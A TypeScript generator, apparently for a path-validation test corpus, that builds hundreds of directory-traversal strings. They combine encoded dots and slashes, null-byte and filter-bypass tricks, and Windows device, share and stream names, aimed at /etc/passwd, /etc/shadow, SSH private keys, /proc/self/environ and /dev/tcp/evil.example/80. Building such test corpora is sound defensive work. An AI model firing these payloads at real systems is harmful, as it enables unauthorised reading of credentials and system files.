// Makes traversal.jsonl: every way to climb that is publicly known, crossed with every way to spell a dot and a slash.

export interface TraversalLine {
  readonly target: string;
  readonly technique: string;
}

// How a dot is spelt, and which decoding makes it one again.
const DOTS: Readonly<Record<string, string>> = {
  plain: '.',
  percent: '%2e',
  'percent, upper case': '%2E',
  'percent twice': '%252e',
  'percent three times': '%25252e',
  'overlong in two bytes': '%c0%ae',
  'overlong in three bytes': '%e0%80%ae',
  'overlong in four bytes': '%f0%80%80%ae',
  'overlong in five bytes': '%f8%80%80%80%ae',
  'overlong, percent twice': '%25c0%25ae',
  '%u': '%u002e',
  '%u fullwidth': '%uff0e',
  'fullwidth in UTF-8': '%ef%bc%8e',
  'backslash x': '\\x2e',
  'backslash u': '\\u002e',
  fullwidth: '\uff0e',
  'one dot leader': '\u2024',
  'small full stop': '\ufe52',
};

const SLASHES: Readonly<Record<string, string>> = {
  plain: '/',
  backslash: '\\',
  percent: '%2f',
  'percent, upper case': '%2F',
  'percent twice': '%252f',
  'percent three times': '%25252f',
  'percent backslash': '%5c',
  'percent backslash twice': '%255c',
  'overlong in two bytes': '%c0%af',
  'overlong in three bytes': '%e0%80%af',
  'overlong in four bytes': '%f0%80%80%af',
  'overlong backslash': '%c1%9c',
  'overlong, percent twice': '%25c0%25af',
  '%u': '%u002f',
  '%u division slash': '%u2215',
  '%u backslash': '%u005c',
  'fullwidth in UTF-8': '%ef%bc%8f',
  'backslash x': '\\x2f',
  'backslash u': '\\u002f',
  fullwidth: '\uff0f',
  'fraction slash': '\u2044',
  'division slash': '\u2215',
  'fullwidth backslash': '\uff3c',
  'set minus': '\u2216',
};

const GOALS = ['etc/passwd', 'windows/win.ini'];

/** Every line, in a fixed order; what is the same text twice is left out. */
export function traversalLines(): TraversalLine[] {
  const lines = new Map<string, TraversalLine>();
  const add = (technique: string, target: string): void => {
    if (!lines.has(target)) lines.set(target, { target, technique });
  };
  for (const [dotName, dot] of Object.entries(DOTS)) {
    for (const [slashName, slash] of Object.entries(SLASHES)) {
      const technique = `dot ${dotName}, slash ${slashName}`;
      for (const depth of [1, 3, 8]) {
        const climb = `${dot}${dot}${slash}`.repeat(depth);
        add(technique, climb + GOALS[0]);
        if (depth === 3) add(technique, `src${slash}${climb}${climb}${GOALS[1]!.replaceAll('/', slash)}`);
      }
      add(`${technique}, one dot only spelt so`, `.${dot}${slash}${dot}.${slash}`.repeat(4) + GOALS[0]);
      add(`${technique}, at the end`, `src${slash}${dot}${dot}${slash}${dot}${dot}`);
    }
  }
  for (const [name, slash] of Object.entries(SLASHES)) {
    add(`absolute, slash ${name}`, `${slash}etc${slash}passwd`);
    add(`absolute, doubled, slash ${name}`, `${slash}${slash}etc${slash}passwd`);
    add(`file URL, slash ${name}`, `file:${slash}${slash}${slash}etc${slash}passwd`);
    for (const end of ['\0', '%00', '%2500', '\\x00', '%0a', '%0d%0a', '?', '#', ';', '%20', '.', '%2e']) {
      add(`${JSON.stringify(end)} before a suffix, slash ${name}`, `..${slash}..${slash}etc${slash}passwd${end}.png`);
    }
    for (const inside of ['src', 'src/a', './src', 'not-there', 'src/.', 'src//']) {
      add(`from inside, slash ${name}`, `${inside}${`${slash}..`.repeat(7)}${slash}etc${slash}passwd`);
    }
    for (const stripped of [
      '....//',
      '..././',
      '...//',
      '.../...//',
      '..;/',
      '..//',
      '.././',
      '..%00/',
      '..%0d/',
      '..%ff/',
    ]) {
      const climb = stripped.replaceAll('/', slash).repeat(5);
      add(`what a filter takes out or skips, slash ${name}`, `${climb}etc${slash}passwd`);
    }
  }
  for (const place of [
    '/etc/passwd',
    '/proc/self/environ',
    '/proc/self/root/etc/passwd',
    '/proc/self/cwd/../../etc/passwd',
    '/dev/fd/3',
    '/dev/mem',
    '/etc/./passwd',
    '/../etc/passwd',
    '/etc//passwd',
    '~/../../etc/passwd',
    '~root/.ssh/id_rsa',
    '~/.ssh/id_rsa',
    '/proc/1/root/etc/shadow',
    '/proc/thread-self/root/etc/passwd',
    '/dev/tcp/evil.example/80',
  ]) {
    add('a place outside', place);
    add('a place outside, with a current directory', `./..${place.startsWith('~') ? '/' : ''}/../../../../..${place}`);
    add('a place outside, as a file URL', `file://${place}`);
    add(
      'a place outside, percent encoded',
      [...Buffer.from(place)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''),
    );
  }
  for (const drive of [
    'C:',
    'c:',
    'C|',
    'Z:',
    '\\\\?\\C:',
    '\\\\.\\C:',
    '//?/C:',
    '//./C:',
    '\\\\?\\UNC\\host\\share',
    '\\\\host\\share',
    '//host/share',
    '\\\\?\\GLOBALROOT\\Device\\HarddiskVolume1',
    '\\\\127.0.0.1\\c$',
    '\\??\\C:',
  ]) {
    for (const slash of ['\\', '/', '%5c', '%2f', '']) {
      if (drive !== 'C|' || slash !== '') add('a Windows drive or share', `${drive}${slash}Windows${slash}win.ini`);
    }
  }
  for (const device of [
    'CON',
    'PRN',
    'AUX',
    'NUL',
    'COM1',
    'COM9',
    'LPT1',
    'CONIN$',
    'CONOUT$',
    'COM\u00b9',
    'nul',
    'Aux',
    'CLOCK$',
  ]) {
    for (const form of [device, `src/${device}`, `src\\${device}`, `${device}:`, `${device} .txt`, `src/${device}:x`])
      add('a DOS device', form);
  }
  for (const stream of [
    'a.txt::$DATA',
    'src:$I30:$INDEX_ALLOCATION',
    'src::$INDEX_ALLOCATION/a.ts',
    'a.txt:hidden:$DATA',
    'a.txt%3a%3a$DATA',
  ])
    add('an alternate stream', stream);
  for (const loose of ['. ', '.', ' ', '...', ' .', '%20', '%2e', '. . ']) {
    for (const path of ['.env', 'src/.env', 'src', '.git']) {
      add('dots or spaces that Windows drops', `${path}${loose}`);
      add('dots or spaces that Windows drops', `${path}${loose}/x`);
    }
    add('dots or spaces that Windows drops', `..${loose}/..${loose}/etc/passwd`);
    add('dots or spaces that Windows drops', `..${loose}\\..${loose}\\etc\\passwd`);
  }
  return [...lines.values()];
}
